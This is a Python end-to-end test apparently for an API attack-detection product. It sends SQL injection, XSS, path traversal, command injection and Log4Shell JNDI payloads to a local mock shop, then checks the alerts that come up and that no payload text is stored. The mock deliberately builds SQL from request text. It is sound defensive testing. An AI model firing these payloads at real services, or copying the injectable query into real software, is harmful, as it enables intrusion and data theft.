"""Attackers through the running product: payloads in queries, bodies and headers become an alert within seconds, with
their classes, the endpoint and what confirms one; and no text of a payload is anywhere outside the node."""

import http.client
import json
import sqlite3
from collections.abc import Iterator
from urllib.parse import parse_qs, quote, urlsplit

import pytest

from tests.e2e.conftest import Product
from tests.e2e.inventory import Inventory, read_port
from tests.e2e.served import JsonHandler, serve
from tests.e2e.test_bodies import dump_store, read_text
from tests.waiting import wait_until

pytestmark = [pytest.mark.kernel, pytest.mark.e2e]

HONEST_CALLS = 40
MARK = "zwetschge"  # Of every payload.
PROBES = (
    f"x' OR '{MARK}'='{MARK}' --",
    f"<script>alert('{MARK}')</script>",
    f"../../../{MARK}/etc/passwd",
    f"x;cat /etc/{MARK};id",
    f"${{jndi:ldap://{MARK}/a}}",
)
BREAKING = f"x' UNION SELECT {MARK} FROM users --"


class Handler(JsonHandler):
    """A shop whose search is safe, and whose products are looked up by a statement put together from text."""

    def do_GET(self) -> None:  # noqa: N802 - the name is http.server's.
        parts = urlsplit(self.path)
        asked = parse_qs(parts.query).get("q", [""])[0]
        if parts.path != "/products":
            self.send_json({"items": []})
            return
        database = sqlite3.connect(":memory:")
        database.execute("CREATE TABLE products (name TEXT)")
        try:
            found = database.execute(f"SELECT name FROM products WHERE name = '{asked}'").fetchall()
        except sqlite3.Error as error:
            self.send_json({"error": f"sqlite3.OperationalError: {error}"}, 500)
        else:
            self.send_json({"items": found})
        finally:
            database.close()

    def do_POST(self) -> None:  # noqa: N802 - the name is http.server's.
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_json({"ok": True})


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    with serve(Handler) as number:
        yield number


def call(port: int, target: str, key: str, body: dict[str, str] | None = None, **headers: str) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    data = json.dumps(body) if body is not None else None
    connection.request(
        "POST" if data else "GET", target, data, {"X-Api-Key": key, "Content-Type": "application/json", **headers}
    )
    connection.getresponse().read()
    connection.close()


def find_injections(inventory: Inventory) -> list[dict[str, object]]:
    return [alert for alert in inventory.list_items("/alerts") if alert["kind"] == "injection"]


def test_an_attacker_is_told_and_nothing_of_a_payload_leaves_the_node(product: Product, port: int) -> None:
    collector, address = product.start_collector()
    sensor = product.start_sensor(address)
    inventory = product.open_inventory(address)
    for number in range(HONEST_CALLS):
        call(port, f"/search?q=pear+{number}", f"honest-{number % 4}")
        call(port, f"/products?q=apple{number}", f"honest-{number % 4}")
    # Five different payloads, no answer of which says that one worked.
    for probe in PROBES[:3]:
        call(port, f"/search?q={quote(probe)}", "prober")
    call(port, "/search", "prober", {"name": PROBES[3]})
    # Headers are read of what comes up whole: here, of a path that is new.
    call(port, "/status", "prober", **{"User-Agent": PROBES[4]})
    # One payload that breaks a statement.
    call(port, f"/products?q={quote(BREAKING)}", "breaker")
    wait_until(lambda: len(find_injections(inventory)) >= 2, "both attackers told")
    alerts = {str(alert["severity"]): alert for alert in find_injections(inventory)}
    assert set(alerts) == {"medium", "high"}
    tried, worked = alerts["medium"], alerts["high"]
    assert {tried["risk"], worked["risk"]} == {"A03:2021"}
    assert "5 different payloads" in str(tried["why"])
    assert "It worked" not in str(tried["why"])
    assert "1 sqli" in str(worked["title"])
    assert "the response holds what such a payload is after" in str(worked["why"])
    assert tried["consumer"] != worked["consumer"]
    wait_until(lambda: inventory.count_calls(port) >= 2 * HONEST_CALLS + 6, "all calls in the inventory")
    (consumer,) = [item for item in inventory.list_items("/consumers") if item["id"] == worked["consumer"]]
    assert (consumer["attacks"], consumer["attacks_confirmed"]) == (1, 1)
    endpoints = [item for item in inventory.list_items("/endpoints") if read_port(item) == port]
    assert {item["template"]: item["attacks"] for item in endpoints if item["method"] == "GET"} == {
        "/search": 3,
        "/products": 1,
        "/status": 1,
    }
    shown = json.dumps([endpoints, list(alerts.values()), inventory.list_items("/consumers")])
    assert sensor.stop() == 0, sensor.log_tail()
    assert collector.stop() == 0, collector.log_tail()
    directory = product.data_directory.parent
    texts = {
        "api": shown,
        "state, spool and logs of the sensor": read_text(directory / "sensor"),
        "data of the collector, with its log of what came over the wire": read_text(product.data_directory),
        "rows of the store": dump_store(product.data_directory / "store"),
        "logs": read_text(directory / "logs"),
    }
    assert [name for name, text in texts.items() if MARK in text] == []
